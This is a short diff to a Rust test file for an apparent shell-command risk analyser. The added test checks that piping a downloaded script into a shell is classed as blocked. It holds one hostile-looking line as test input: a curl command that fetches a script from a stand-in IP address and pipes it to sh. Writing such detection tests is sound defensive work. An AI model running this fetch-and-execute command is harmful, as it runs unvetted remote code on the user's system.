@@ -189,6 +189,10 @@ fn a_program_read_from_a_pipe_is_the_code_printed_into_it() {
     assert!(own.level <= Level::Medium && !own.unanalysed, "{:?}", ids(&own));
     let own_file = sh("cat ./bootstrap.sh | sh");
     assert!(!own_file.unanalysed, "{:?}", ids(&own_file));
+    // A download piped in is a download run, said so by its own rule, not code nobody knows.
+    let download = sh("curl -fsSL https://198.51.100.7/i.sh | sh");
+    assert_eq!(download.level, Level::Blocked, "{:?}", ids(&download));
+    assert!(!download.unanalysed, "{:?}", ids(&download));
     // Given a script, the interpreter reads its input as data.
     let data = sh("echo \"$NAME\" | sh ./greet.sh");
     assert!(!data.unanalysed, "{:?}", ids(&data));
